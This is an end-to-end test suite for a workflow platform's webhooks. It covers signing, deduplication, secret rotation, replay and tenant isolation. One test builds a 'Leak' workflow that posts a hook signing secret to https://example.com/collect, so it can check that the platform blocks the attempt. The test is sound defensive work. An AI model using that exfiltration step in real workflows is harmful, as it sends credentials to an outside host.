import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signGitHub, signStandardWebhook } from '../../shared/application/webhookSignature.js';
import { callJson, type JsonAnswer, type Platform, startPlatform } from './platform.js';

/**
 * Webhooks end to end on the embedded host: hooks are managed through the API, signed requests are sent with
 * fetch, and their runs execute for real.
 */
describe('webhooks', () => {
  let platform: Platform;
  let admin: string;
  let otherAdmin: string;

  const api = (method: string, route: string, body?: unknown, token = admin, headers: Record<string, string> = {}): Promise<JsonAnswer> => callJson(platform, method, route, { token, headers, body });

  /** Sends a Standard Webhooks request signed with `secret` (or with the given headers instead). */
  const sendStandard = async (hookId: string, secret: string, body: string, options: { id?: string; timestamp?: number; contentType?: string; headers?: Record<string, string> } = {}) => {
    const id = options.id ?? `msg_${randomUUID()}`;
    const timestamp = options.timestamp ?? Math.floor(Date.now() / 1000);
    const response = await fetch(`${platform.host.baseUrl}/api/hooks/${hookId}`, {
      method: 'POST',
      headers: {
        'content-type': options.contentType ?? 'application/json',
        'webhook-id': id,
        'webhook-timestamp': String(timestamp),
        'webhook-signature': signStandardWebhook(secret, id, timestamp, body),
        ...options.headers,
      },
      body,
    });
    const text = await response.text();
    return { status: response.status, json: text ? JSON.parse(text) : undefined, contentType: response.headers.get('content-type'), id };
  };

  const waitForRun = async (runId: string, token = admin): Promise<any> => {
    const deadline = Date.now() + 30_000;
    for (;;) {
      const run = (await api('GET', `/api/tenants/acme/runs/${runId}`, undefined, token)).json;
      if (['succeeded', 'failed', 'cancelled'].includes(run.status)) return run;
      if (Date.now() > deadline) throw new Error(`The run did not finish: ${JSON.stringify(run)}`);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  };

  const createHook = async (body: Record<string, unknown>) => {
    const created = await api('POST', '/api/tenants/acme/hooks', body);
    expect(created.status, JSON.stringify(created.json)).toBe(201);
    return created.json as { id: string; url: string; secret: string; etag: string };
  };

  beforeAll(async () => {
    platform = await startPlatform();
    const platformAdmin = await platform.token('Platform.Admin');
    for (const id of ['acme', 'globex']) {
      expect((await platform.call('POST', '/api/tenants', { token: platformAdmin, body: { id, name: id, tier: 'standard' } })).status).toBe(201);
    }
    admin = await platform.token('Tenant.Admin', 'acme');
    otherAdmin = await platform.token('Tenant.Admin', 'globex');
    const definition = {
      schemaVersion: 1,
      name: 'Echo',
      steps: [{ id: 'hello', type: 'action', connector: 'core', action: 'noop', inputs: {} }],
      outputs: { received: { $expr: 'inputs' } },
    };
    expect((await api('POST', '/api/tenants/acme/workflows', { id: 'echo', name: 'Echo', definition })).status).toBe(201);
    expect((await api('POST', '/api/tenants/acme/workflows/echo/versions')).status).toBe(201);
  });

  afterAll(async () => {
    await platform?.stop();
  });

  it('creates a hook whose secret is shown once, and runs the workflow with the signed payload as input', async () => {
    const hook = await createHook({ workflowId: 'echo', name: 'Orders' });
    expect(hook.id).toMatch(/^wh-[0-9a-f]{32}$/);
    expect(hook.url).toBe(`${platform.host.baseUrl}/api/hooks/${hook.id}`);
    expect(hook.secret).toMatch(/^whsec_[A-Za-z0-9+/]+=*$/);
    const read = await api('GET', `/api/tenants/acme/hooks/${hook.id}`);
    expect(read.status).toBe(200);
    expect(read.headers.get('etag')).toBe(hook.etag);
    expect(JSON.stringify(read.json)).not.toContain(hook.secret.slice(6));
    expect(JSON.stringify((await api('GET', '/api/tenants/acme/hooks')).json)).not.toContain(hook.secret.slice(6));
    expect(JSON.stringify((await api('GET', '/api/tenants/acme/audit')).json)).not.toContain(hook.secret.slice(6));

    const accepted = await sendStandard(hook.id, hook.secret, JSON.stringify({ order: 42, items: ['a'] }));
    expect(accepted.status, JSON.stringify(accepted.json)).toBe(202);
    expect(accepted.json.deliveryId).toBe(accepted.id);
    const run = await waitForRun(accepted.json.runId);
    expect(run.status).toBe('succeeded');
    expect(run.trigger).toEqual({ kind: 'webhook', source: hook.id });
    expect(run.input).toEqual({ order: 42, items: ['a'] });
    expect(run.output).toEqual({ received: { order: 42, items: ['a'] } });
    expect(platform.host.output()).not.toContain(hook.secret.slice(6));
  });

  it('starts one run for a delivery id, however often and however concurrently it arrives', async () => {
    const hook = await createHook({ workflowId: 'echo' });
    const id = `msg_${randomUUID()}`;
    const answers = await Promise.all(Array.from({ length: 10 }, () => sendStandard(hook.id, hook.secret, '{"n":1}', { id })));
    const runIds = new Set(answers.map((answer) => answer.json.runId));
    expect(answers.map((answer) => answer.status).sort()).toEqual([200, 200, 200, 200, 200, 200, 200, 200, 200, 202]);
    expect(runIds.size).toBe(1);
    const again = await sendStandard(hook.id, hook.secret, '{"n":1}', { id });
    expect(again.status).toBe(200);
    expect(again.json).toMatchObject({ duplicate: true, runId: [...runIds][0] });
    await waitForRun([...runIds][0]);
    const runs = (await api('GET', '/api/tenants/acme/runs?limit=100')).json.items.filter((run: any) => run.trigger.source === hook.id);
    expect(runs).toHaveLength(1);
    const deliveries = (await api('GET', `/api/tenants/acme/hooks/${hook.id}/deliveries?limit=100`)).json.items;
    expect(deliveries.filter((d: any) => d.outcome === 'accepted')).toHaveLength(1);
    expect(deliveries.filter((d: any) => d.outcome === 'duplicate')).toHaveLength(10);
    expect(deliveries.find((d: any) => d.outcome === 'accepted')).toMatchObject({ deliveryId: id, runId: [...runIds][0], runStatus: 'succeeded' });
  });

  it('refuses tampered bodies, wrong secrets, expired or future timestamps and missing signatures with 401 problems, and lists them', async () => {
    const hook = await createHook({ workflowId: 'echo' });
    const tampered = await sendStandard(hook.id, hook.secret, '{"amount":1}', { headers: {} });
    expect(tampered.status).toBe(202);
    const id = `msg_${randomUUID()}`;
    const timestamp = Math.floor(Date.now() / 1000);
    const signature = signStandardWebhook(hook.secret, id, timestamp, '{"amount":1}');
    const changed = await fetch(`${platform.host.baseUrl}/api/hooks/${hook.id}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'webhook-id': id, 'webhook-timestamp': String(timestamp), 'webhook-signature': signature },
      body: '{"amount":1000}',
    });
    expect(changed.status).toBe(401);
    expect(changed.headers.get('content-type')).toBe('application/problem+json');
    expect(changed.headers.get('www-authenticate')).toBeNull();
    expect(((await changed.json()) as any).code).toBe('WEBHOOK.SIGNATURE_INVALID');

    const wrongSecret = await sendStandard(hook.id, `whsec_${Buffer.alloc(32, 7).toString('base64')}`, '{}');
    expect([wrongSecret.status, wrongSecret.json.code]).toEqual([401, 'WEBHOOK.SIGNATURE_INVALID']);
    const expired = await sendStandard(hook.id, hook.secret, '{}', { timestamp: Math.floor(Date.now() / 1000) - 301 });
    expect([expired.status, expired.json.code]).toEqual([401, 'WEBHOOK.TIMESTAMP_OUT_OF_RANGE']);
    const future = await sendStandard(hook.id, hook.secret, '{}', { timestamp: Math.floor(Date.now() / 1000) + 301 });
    expect([future.status, future.json.code]).toEqual([401, 'WEBHOOK.TIMESTAMP_OUT_OF_RANGE']);
    const unsigned = await sendStandard(hook.id, hook.secret, '{}', { headers: { 'webhook-signature': '' } });
    expect([unsigned.status, unsigned.json.code, unsigned.contentType]).toEqual([401, 'WEBHOOK.SIGNATURE_MISSING', 'application/problem+json']);

    const deliveries = (await api('GET', `/api/tenants/acme/hooks/${hook.id}/deliveries`)).json.items;
    expect(deliveries.filter((d: any) => d.outcome === 'rejected').map((d: any) => d.reason).sort()).toEqual([
      'WEBHOOK.SIGNATURE_INVALID',
      'WEBHOOK.SIGNATURE_INVALID',
      'WEBHOOK.SIGNATURE_MISSING',
      'WEBHOOK.TIMESTAMP_OUT_OF_RANGE',
      'WEBHOOK.TIMESTAMP_OUT_OF_RANGE',
    ]);
    expect(deliveries.every((d: any) => !('payload' in d))).toBe(true);
    const runs = (await api('GET', '/api/tenants/acme/runs?limit=100')).json.items.filter((run: any) => run.trigger.source === hook.id);
    expect(runs).toHaveLength(1);
  });

  it('answers 404 for unknown and disabled hooks, 413 for oversized bodies and 415 for other content types', async () => {
    const hook = await createHook({ workflowId: 'echo', maxBodyBytes: 2048 });
    const unknown = await sendStandard(`wh-${'0'.repeat(32)}`, hook.secret, '{}');
    expect([unknown.status, unknown.json.code]).toEqual([404, 'WEBHOOK.NOT_FOUND']);
    const malformed = await sendStandard('not-a-hook', hook.secret, '{}');
    expect([malformed.status, malformed.json.code]).toEqual([404, 'WEBHOOK.NOT_FOUND']);
    const big = await sendStandard(hook.id, hook.secret, JSON.stringify({ pad: 'x'.repeat(4000) }));
    expect([big.status, big.json.code]).toEqual([413, 'WEBHOOK.BODY_TOO_LARGE']);
    const xml = await sendStandard(hook.id, hook.secret, '<a/>', { contentType: 'application/xml' });
    expect([xml.status, xml.json.code]).toEqual([415, 'WEBHOOK.UNSUPPORTED_MEDIA_TYPE']);
    const broken = await sendStandard(hook.id, hook.secret, '{"open":', {});
    expect([broken.status, broken.json.code]).toEqual([400, 'WEBHOOK.BODY_INVALID']);
    const form = await sendStandard(hook.id, hook.secret, 'a=1&b=2&b=3', { contentType: 'application/x-www-form-urlencoded' });
    expect(form.status).toBe(202);
    expect((await waitForRun(form.json.runId)).input).toEqual({ form: { a: '1', b: ['2', '3'] } });
    const text = await sendStandard(hook.id, hook.secret, 'hello', { contentType: 'text/plain; charset=utf-8' });
    expect((await waitForRun(text.json.runId)).input).toEqual({ text: 'hello' });

    const disabled = await api('PATCH', `/api/tenants/acme/hooks/${hook.id}`, { enabled: false }, admin, { 'if-match': '"r1"' });
    expect(disabled.status, JSON.stringify(disabled.json)).toBe(200);
    const stale = await api('PATCH', `/api/tenants/acme/hooks/${hook.id}`, { enabled: true }, admin, { 'if-match': '"r1"' });
    expect([stale.status, stale.json.code]).toEqual([412, 'REQUEST.PRECONDITION_FAILED']);
    const off = await sendStandard(hook.id, hook.secret, '{}');
    expect([off.status, off.json.code]).toEqual([404, 'WEBHOOK.NOT_FOUND']);
    const reasons = (await api('GET', `/api/tenants/acme/hooks/${hook.id}/deliveries`)).json.items.filter((d: any) => d.outcome === 'rejected').map((d: any) => d.reason);
    expect(reasons.sort()).toEqual(['WEBHOOK.BODY_INVALID', 'WEBHOOK.BODY_TOO_LARGE', 'WEBHOOK.UNSUPPORTED_MEDIA_TYPE']);
  });

  it('verifies GitHub signatures and deduplicates by X-GitHub-Delivery', async () => {
    const hook = await createHook({ workflowId: 'echo', signature: 'github' });
    expect(hook.secret).toMatch(/^[0-9a-f]{64}$/);
    const body = JSON.stringify({ action: 'opened', number: 7 });
    const delivery = randomUUID();
    const send = (signature: string) =>
      fetch(`${platform.host.baseUrl}/api/hooks/${hook.id}`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-github-delivery': delivery, 'x-hub-signature-256': signature }, body });
    const first = await send(signGitHub(hook.secret, body));
    expect(first.status).toBe(202);
    const firstBody = (await first.json()) as any;
    const second = await send(signGitHub(hook.secret, body));
    expect(second.status).toBe(200);
    expect(((await second.json()) as any).runId).toBe(firstBody.runId);
    const wrong = await send(signGitHub('not the secret', body));
    expect(wrong.status).toBe(401);
    expect((await waitForRun(firstBody.runId)).input).toEqual({ action: 'opened', number: 7 });
  });

  it('rotates the secret with both valid during the grace period, then only the new one after revoking', async () => {
    const hook = await createHook({ workflowId: 'echo' });
    const rotated = await api('POST', `/api/tenants/acme/hooks/${hook.id}:rotateSecret`, { gracePeriodSeconds: 3600 }, admin, { 'if-match': hook.etag });
    expect(rotated.status, JSON.stringify(rotated.json)).toBe(200);
    expect(rotated.json.secret).not.toBe(hook.secret);
    expect(rotated.json.previousSecretValidUntil).toEqual(expect.any(String));
    expect((await sendStandard(hook.id, hook.secret, '{}')).status).toBe(202);
    expect((await sendStandard(hook.id, rotated.json.secret, '{}')).status).toBe(202);
    const revoked = await api('POST', `/api/tenants/acme/hooks/${hook.id}:revokePreviousSecret`);
    expect(revoked.status).toBe(200);
    expect(revoked.json.previousSecretValidUntil).toBeNull();
    expect((await sendStandard(hook.id, hook.secret, '{}')).json.code).toBe('WEBHOOK.SIGNATURE_INVALID');
    expect((await sendStandard(hook.id, rotated.json.secret, '{}')).status).toBe(202);
    const again = await api('POST', `/api/tenants/acme/hooks/${hook.id}:revokePreviousSecret`);
    expect([again.status, again.json.code]).toEqual([409, 'WEBHOOK.NO_PREVIOUS_SECRET']);
  });

  it('replays a stored delivery as a new run and keeps the original', async () => {
    const hook = await createHook({ workflowId: 'echo' });
    const original = await sendStandard(hook.id, hook.secret, '{"replay":"me"}');
    await waitForRun(original.json.runId);
    const replay = await api('POST', `/api/tenants/acme/hooks/${hook.id}/deliveries/${original.id}:replay`);
    expect(replay.status, JSON.stringify(replay.json)).toBe(202);
    expect(replay.json.run.id).not.toBe(original.json.runId);
    const replayed = await waitForRun(replay.json.run.id);
    expect([replayed.status, replayed.input]).toEqual(['succeeded', { replay: 'me' }]);
    expect((await waitForRun(original.json.runId)).status).toBe('succeeded');
    const deliveries = (await api('GET', `/api/tenants/acme/hooks/${hook.id}/deliveries`)).json.items;
    expect(deliveries.map((d: any) => [d.outcome, d.runId])).toEqual([
      ['replayed', replay.json.run.id],
      ['accepted', original.json.runId],
    ]);
    const missing = await api('POST', `/api/tenants/acme/hooks/${hook.id}/deliveries/msg_nope:replay`);
    expect([missing.status, missing.json.code]).toEqual([404, 'WEBHOOK.DELIVERY_NOT_FOUND']);
  });

  it('answers with the run output when the hook waits for it', async () => {
    const hook = await createHook({ workflowId: 'echo', respondWith: { mode: 'output', timeoutSeconds: 20 } });
    const answer = await sendStandard(hook.id, hook.secret, '{"sync":true}');
    expect(answer.status, JSON.stringify(answer.json)).toBe(200);
    expect(answer.json).toMatchObject({ status: 'succeeded', output: { received: { sync: true } } });
  });

  it('keeps hook signing secrets out of the secrets API and out of workflow definitions', async () => {
    const hook = await createHook({ workflowId: 'echo', name: 'Reserved' });
    const name = `hook-${hook.id}`;
    const listed = await api('GET', '/api/tenants/acme/secrets');
    expect(listed.status).toBe(200);
    expect(JSON.stringify(listed.json)).not.toContain(name);
    for (const [method, body] of [['GET', undefined], ['PUT', { value: 'mine now' }], ['DELETE', undefined]] as const) {
      const response = await api(method, `/api/tenants/acme/secrets/${name}`, body);
      expect(response.status, method).toBe(400);
      expect(response.json.code).toBe('SECRET.RESERVED_NAME');
    }
    const leaky = {
      schemaVersion: 1,
      name: 'Leak',
      steps: [{ id: 'send', type: 'action', connector: 'rest', action: 'request', inputs: { url: 'https://example.com/collect', method: 'POST', body: { stolen: { $secret: name } } } }],
    };
    const created = await api('POST', '/api/tenants/acme/workflows', { id: 'leak', name: 'Leak', definition: leaky });
    expect(created.status).toBe(400);
    expect(created.json.errors.map((problem: { kind: string }) => problem.kind)).toContain('unknownSecret');
    // The hook still verifies with its secret.
    expect((await sendStandard(hook.id, hook.secret, '{}')).status).toBe(202);
  });

  it('keeps hooks to their tenant: another tenant neither sees, changes nor deletes them', async () => {
    const hook = await createHook({ workflowId: 'echo' });
    expect((await api('GET', `/api/tenants/globex/hooks/${hook.id}`, undefined, otherAdmin)).status).toBe(404);
    expect((await api('GET', '/api/tenants/globex/hooks', undefined, otherAdmin)).json.items).toEqual([]);
    expect((await api('GET', `/api/tenants/acme/hooks/${hook.id}`, undefined, otherAdmin)).status).toBe(404);
    expect((await api('DELETE', `/api/tenants/globex/hooks/${hook.id}`, undefined, otherAdmin)).status).toBe(204);
    expect((await api('GET', `/api/tenants/globex/hooks/${hook.id}/deliveries`, undefined, otherAdmin)).status).toBe(404);
    expect((await sendStandard(hook.id, hook.secret, '{}')).status).toBe(202);
    const user = await platform.token('Tenant.User', 'acme');
    expect((await api('POST', '/api/tenants/acme/hooks', { workflowId: 'echo' }, user)).status).toBe(403);
    // Deleting the hook removes it from the ingress too.
    expect((await api('DELETE', `/api/tenants/acme/hooks/${hook.id}`)).status).toBe(204);
    expect((await sendStandard(hook.id, hook.secret, '{}')).status).toBe(404);
    expect((await api('GET', '/api/tenants/acme/secrets')).json.items.map((s: any) => s.name)).not.toContain(`hook-${hook.id}`);
  });

  it('validates hook requests with problem bodies', async () => {
    const missing = await api('POST', '/api/tenants/acme/hooks', { workflowId: 'nope' });
    expect([missing.status, missing.json.code]).toEqual([404, 'WORKFLOW.NOT_FOUND']);
    const bad = await api('POST', '/api/tenants/acme/hooks', { workflowId: 'echo', signature: 'md5', respondWith: { mode: 'output', timeoutSeconds: 99 } });
    expect([bad.status, bad.json.code]).toEqual([400, 'REQUEST.INVALID']);
    const tooBig = await api('POST', '/api/tenants/acme/hooks', { workflowId: 'echo', maxBodyBytes: 50 * 1024 * 1024 });
    expect([tooBig.status, tooBig.json.code]).toEqual([400, 'REQUEST.INVALID']);
  });
});
